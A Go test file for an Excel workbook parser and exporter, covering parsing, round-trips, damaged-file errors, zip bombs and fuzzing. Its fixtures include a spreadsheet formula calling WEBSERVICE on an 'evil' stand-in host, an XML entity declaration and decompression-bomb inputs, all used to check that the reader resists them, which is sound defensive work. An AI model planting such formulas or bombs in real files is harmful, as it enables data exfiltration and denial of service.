package sheet

import (
	"archive/zip"
	"bytes"
	"errors"
	"io"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"balie/policy"
)

// excel is a workbook as Excel writes one: a hidden sheet first, strings shared
// and styled in pieces, a date, a formula, a phone number that became a number.
var excel = map[string]string{
	"[Content_Types].xml": `<Types/>`,
	"xl/workbook.xml": `<?xml version="1.0"?><workbook xmlns:r="r"><workbookPr/><sheets><sheet name="h" state="hidden" r:id="rId7"/>
		<sheet name="Klanten" r:id="rId2"/></sheets></workbook>`,
	"xl/_rels/workbook.xml.rels": `<Relationships><Relationship Id="rId7" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Target="/xl/worksheets/sheet2.xml"/></Relationships>`,
	"xl/styles.xml": `<styleSheet><numFmts><numFmt numFmtId="164" formatCode="dd\-mm\-yyyy"/><numFmt numFmtId="165" formatCode="&quot;dag&quot;0"/></numFmts>
		<cellStyleXfs><xf numFmtId="14"/></cellStyleXfs><cellXfs><xf numFmtId="0"/><xf numFmtId="164"/><xf numFmtId="165"/><xf numFmtId="22"/></cellXfs></styleSheet>`,
	"xl/sharedStrings.xml": `<sst><si><t>naam</t></si><si><r><t>e-</t></r><r><rPr><b/></rPr><t>mail</t></r><rPh><t>x</t></rPh></si><si><t>Zoë_x000D_</t></si></sst>`,
	"xl/worksheets/sheet2.xml": `<worksheet><sheetData>
		<row r="2"><c r="A2" t="s"><v>0</v></c><c r="B2" t="s"><v>1</v></c><c r="C2" t="inlineStr"><is><t>geboren</t></is></c><c r="E2" t="str"><f>"a"&amp;"b"</f><v>som</v></c></row>
		<row r="3"><c r="A3" s="1"/></row>
		<row r="5"><c r="A5" t="s"><v>2</v></c><c r="B5"><v>31612345678</v></c><c r="C5" s="1"><v>45000</v></c><c r="D5" t="e"><v>#REF!</v></c><c r="E5"><f>WEBSERVICE("http://evil")</f></c></row>
		<row r="6"><c r="A6" t="b"><v>1</v></c><c r="B6"><v>19.989999999999998</v></c><c r="C6" s="3"><v>45000.5</v></c><c r="E6" s="2"><v>3</v></c></row>
	</sheetData></worksheet>`,
}

func zipped(t testing.TB, parts map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for name, content := range parts {
		method := zip.Store // compressing takes a fuzzer most of its time
		if len(content) > 1<<16 {
			method = zip.Deflate
		}
		part, err := w.CreateHeader(&zip.FileHeader{Name: name, Method: method})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(part, content); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// with is the workbook with one part changed; no content takes it out.
func with(name, content string) map[string]string {
	parts := map[string]string{name: content}
	for n, c := range excel {
		if n != name {
			parts[n] = c
		}
	}
	if content == "" {
		delete(parts, name)
	}
	return parts
}

func openBytes(b []byte, limits Limits) (*Reader, error) {
	return OpenFile(bytes.NewReader(b), int64(len(b)), limits)
}

func rowsOf(t testing.TB, b []byte, limits Limits) (header []string, rows []Row, bad []string, err error) {
	t.Helper()
	r, err := openBytes(b, limits)
	if err != nil {
		return nil, nil, nil, err
	}
	for {
		row, err := r.Next()
		switch {
		case err == io.EOF:
			return r.Header(), rows, bad, nil
		case isRowError(err):
			bad = append(bad, err.Error())
		case err != nil:
			return r.Header(), rows, bad, err
		default:
			rows = append(rows, row)
		}
	}
}

func TestWorkbook_Excel(t *testing.T) {
	header, rows, bad, err := rowsOf(t, zipped(t, excel), Limits{})
	if err != nil || bad != nil {
		t.Fatal(bad, err)
	}
	if diff := cmp.Diff([]string{"naam", "e-mail", "geboren", "", "som"}, header); diff != "" {
		t.Error(diff)
	}
	want := []Row{
		{5, []string{"Zoë\r", "31612345678", "2023-03-15", "", ""}},
		{6, []string{"true", "19.99", "2023-03-15 12:00", "", "3"}},
	}
	if diff := cmp.Diff(want, rows); diff != "" {
		t.Error(diff)
	}
}

// What we write as a workbook comes back as it was, and no cell is a formula.
func TestWorkbook_RoundTrip(t *testing.T) {
	var rows [][]string
	for _, v := range people {
		rows = append(rows, v.Cells(Contacts.Fields()))
	}
	rows = append(rows, Values{FullName: {"_x0041_ =1+1"}, Note: {strings.Join(hostileCells[:4], "\n")}}.Cells(Contacts.Fields()))
	var b bytes.Buffer
	if err := WriteWorkbook(&b, Names(Contacts.Fields()), each(rows, nil)); err != nil {
		t.Fatal(err)
	}
	header, got, bad, err := rowsOf(t, b.Bytes(), Limits{})
	if err != nil || bad != nil {
		t.Fatal(bad, err)
	}
	m := Contacts.Recognise(header, nil)
	for i, row := range got[:len(people)] {
		if diff := cmp.Diff(people[i], m.Row(row.Cells)); diff != "" {
			t.Error(diff)
		}
	}
	if got := got[len(people)].Cells[0]; got != "_x0041_ =1+1" {
		t.Errorf("read back as %q", got)
	}
	if bytes.Contains(b.Bytes(), []byte("<f>")) {
		t.Error("there is a formula in it")
	}
	lost := errors.New("lost")
	b.Reset()
	if err := WriteWorkbook(&b, nil, each(rows, lost)); !errors.Is(err, lost) {
		t.Error("an export that broke off passes for whole:", err)
	}
	if _, err := openBytes(b.Bytes(), Limits{}); err == nil {
		t.Error("and can be opened")
	}
}

// Whatever is wrong with a file, one sentence says so.
func TestWorkbook_Hostile(t *testing.T) {
	good := zipped(t, excel)
	sheet := excel["xl/worksheets/sheet2.xml"]
	row := `<row r="9"><c r="A9" t="inlineStr"><is><t>` + strings.Repeat("x", 2000) + `</t></is></c></row></sheetData>`
	tests := []struct {
		name, want string
		file       []byte
		limits     Limits
	}{
		{"half of it", "damaged", good[:len(good)/2], Limits{}},
		{"another zip", "not an Excel workbook", zipped(t, map[string]string{"a.txt": "a"}), Limits{}},
		{"no sheet", "damaged", zipped(t, with("xl/worksheets/sheet2.xml", "")), Limits{}},
		{"sheet cut off", "damaged", zipped(t, with("xl/worksheets/sheet2.xml", sheet[:len(sheet)-30])), Limits{}},
		{"row cut off", "damaged", zipped(t, with("xl/worksheets/sheet2.xml", sheet[:len(sheet)/2])), Limits{}},
		{"entities", "damaged", zipped(t, with("xl/sharedStrings.xml", `<!DOCTYPE a [<!ENTITY b "bbbb">]><sst><si><t>&b;</t></si></sst>`)), Limits{}},
		{"too large", "larger than 1 MiB", zipped(t, excel), Limits{Bytes: 100}},
		{"too many rows", "more than 1 rows", good, Limits{Rows: 1}},
		{"no XML", "damaged", zipped(t, with("xl/workbook.xml", "\x00\x01\x02")), Limits{}},
		{"a column far away", "line 2: The row has more than 2 columns.", good, Limits{Columns: 2}},
		{"a long cell", "line 9: A cell is longer than 1 KiB.", zipped(t, with("xl/worksheets/sheet2.xml", strings.Replace(sheet, "</sheetData>", row, 1))), Limits{Field: 1 << 10}},
		{"a directory that lies", "damaged", append([]byte("PK\x03\x04"), good[4:len(good)-6]...), Limits{}},
	}
	for _, tt := range tests {
		_, _, bad, err := rowsOf(t, tt.file, tt.limits)
		said := strings.Join(bad, "\n")
		if err != nil {
			said += err.Error()
			if k := policy.KindOf(err); k != policy.Invalid {
				t.Errorf("%s: kind %v", tt.name, k)
			}
		}
		if tt.name == "a column far away" {
			tt.want = "The first row can't be read: The row has more than 2 columns."
		}
		if !strings.Contains(said, tt.want) || strings.Count(said, "\n") > 0 {
			t.Errorf("%s: %q", tt.name, said)
		}
	}
}

// TestBombs_Workbook: a megabyte that unpacks to gigabytes costs neither time
// nor memory.
func TestBombs_Workbook(t *testing.T) {
	cell := `<c t="inlineStr"><is><t>x</t></is></c>`
	limits := Limits{Bytes: 8 * mib, Rows: 100_000}
	for name, tt := range map[string]struct{ part, content, want string }{
		"spaces":        {"xl/worksheets/sheet2.xml", `<worksheet><sheetData>` + strings.Repeat(" ", int(16*mib)), "cell of more than"},
		"rows":          {"xl/worksheets/sheet2.xml", `<worksheet><sheetData>` + strings.Repeat("<row>"+cell+"</row>", 200_000), "more than"},
		"empty strings": {"xl/sharedStrings.xml", "<sst>" + strings.Repeat("<si/>", 3_000_000), "larger than 8 MiB"},
		"attributes":    {"xl/workbook.xml", "<workbook " + strings.Repeat(`a="b" `, 500_000) + "/>", "cell of more than"},
	} {
		t.Run(name, func(t *testing.T) {
			b := zipped(t, with(tt.part, tt.content))
			defuse(t, &bomb{piece: "x"}, func(io.Reader) {
				r, err := openBytes(b, limits)
				for err == nil {
					_, err = r.Next()
				}
				if err == io.EOF || !strings.Contains(err.Error(), tt.want) {
					t.Errorf("%d KiB ended with %v", len(b)>>10, err)
				}
			})
		})
	}
}

// FuzzWorkbook: whatever the sheet holds, rows are UTF-8, as wide as the header
// and within the limits; whatever the zip holds, nothing panics.
func FuzzWorkbook(f *testing.F) {
	f.Add([]byte(excel["xl/worksheets/sheet2.xml"]), excel["xl/sharedStrings.xml"], excel["xl/styles.xml"])
	f.Add([]byte("PK\x03\x04"), "", "")
	f.Add(zipped(f, excel), "<sst/>", "<styleSheet/>")
	f.Fuzz(func(t *testing.T, sheet []byte, shared, styles string) {
		_, _, _, _ = rowsOf(t, sheet, tight)
		parts := with("xl/worksheets/sheet2.xml", string(sheet))
		parts["xl/sharedStrings.xml"], parts["xl/styles.xml"] = shared, styles
		header, rows, _, _ := rowsOf(t, zipped(t, parts), tight)
		for _, row := range rows {
			if len(row.Cells) != len(header) || row.Line < 1 {
				t.Fatalf("row %v under %v", row, header)
			}
			for _, c := range row.Cells {
				if !utf8.ValidString(c) || len(c) > tight.Field+8 {
					t.Fatalf("cell %q", c)
				}
			}
		}
	})
}
